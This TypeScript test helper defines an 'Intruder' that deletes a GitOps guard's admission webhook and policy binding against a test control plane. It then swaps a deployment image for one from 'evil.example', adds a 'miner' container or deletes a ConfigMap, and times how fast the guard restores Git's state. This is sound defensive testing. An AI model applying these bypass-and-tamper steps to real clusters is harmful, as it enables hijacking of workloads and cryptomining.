import type { ControlPlane } from '../../test/control-plane/control-plane.ts'

const REGISTRATION = '/apis/admissionregistration.k8s.io/v1'
const WEBHOOK = `${REGISTRATION}/validatingwebhookconfigurations/gitops-guard`
const BINDING = `${REGISTRATION}/validatingadmissionpolicybindings/gitops-guard`
const DEPLOYMENT = '/apis/apps/v1/namespaces/shop/deployments/web'
const CONFIG_MAP = '/api/v1/namespaces/shop/configmaps/web'

/** A change that the webhook would refuse, and how a second client sees that it is undone. */
export interface Intrusion {
  what: string
  write: { method: string; path: string; body?: unknown; contentType?: string }
  /** Where to look, and whether what is there is Git's state. */
  path: string
  healed(status: number, body: any): boolean // eslint-disable-line @typescript-eslint/no-explicit-any
}

/** An administrator with every right, who takes the guard's webhook away to write past it. */
export class Intruder {
  readonly #plane: ControlPlane

  constructor(plane: ControlPlane) {
    this.#plane = plane
  }

  intrusions(): Intrusion[] {
    const patch = { method: 'PATCH', contentType: 'application/strategic-merge-patch+json' }
    const containers = (list: object[]) => ({ spec: { template: { spec: { containers: list } } } })
    return [
      {
        what: 'changes the image',
        write: {
          ...patch,
          path: DEPLOYMENT,
          body: containers([{ name: 'podinfo', image: 'evil.example/podinfo' }]),
        },
        path: DEPLOYMENT,
        healed: (_, body) => body.spec.template.spec.containers[0].image.startsWith('ghcr.io/'),
      },
      {
        what: 'adds a container',
        write: {
          ...patch,
          path: DEPLOYMENT,
          body: containers([{ name: 'miner', image: 'evil.example/miner' }]),
        },
        path: DEPLOYMENT,
        healed: (_, body) => body.spec.template.spec.containers.length === 1,
      },
      {
        what: 'deletes the ConfigMap',
        write: { method: 'DELETE', path: CONFIG_MAP },
        path: CONFIG_MAP,
        healed: (status) => status === 200,
      },
    ]
  }

  /**
   * Deletes policy and webhook and writes, again and again until a write gets through: the guard puts both back within
   * milliseconds. Milliseconds count from the API server's answer to that write.
   */
  async run(intrusion: Intrusion): Promise<{ tries: number; healedMs: number; webhookMs: string }> {
    const { method, path, body, contentType } = intrusion.write
    for (let tries = 1; ; tries++) {
      if (tries > 500) throw new Error(`${intrusion.what}: not one of 500 tries got past the guard`)
      await this.#plane.api('DELETE', BINDING)
      const gone = await this.#plane.api('DELETE', WEBHOOK)
      if (gone.status >= 300) continue
      const { status } = await this.#plane.api(method, path, body, contentType)
      if (status >= 300) continue
      const written = performance.now()
      const healedMs = await this.#until(written, intrusion.path, intrusion.healed)
      const webhookMs = await this.#until(
        written,
        WEBHOOK,
        (found, object) => found === 200 && object.webhooks?.length > 0,
      )
      return { tries, healedMs, webhookMs: `after ${webhookMs.toFixed(0)} ms at the latest` }
    }
  }

  async #until(since: number, path: string, done: Intrusion['healed']): Promise<number> {
    for (;;) {
      const { status, body } = await this.#plane.api('GET', path)
      const ms = performance.now() - since
      if (done(status, body)) return ms
      if (ms > 30_000) throw new Error(`${path} is not back after 30 s`)
    }
  }
}
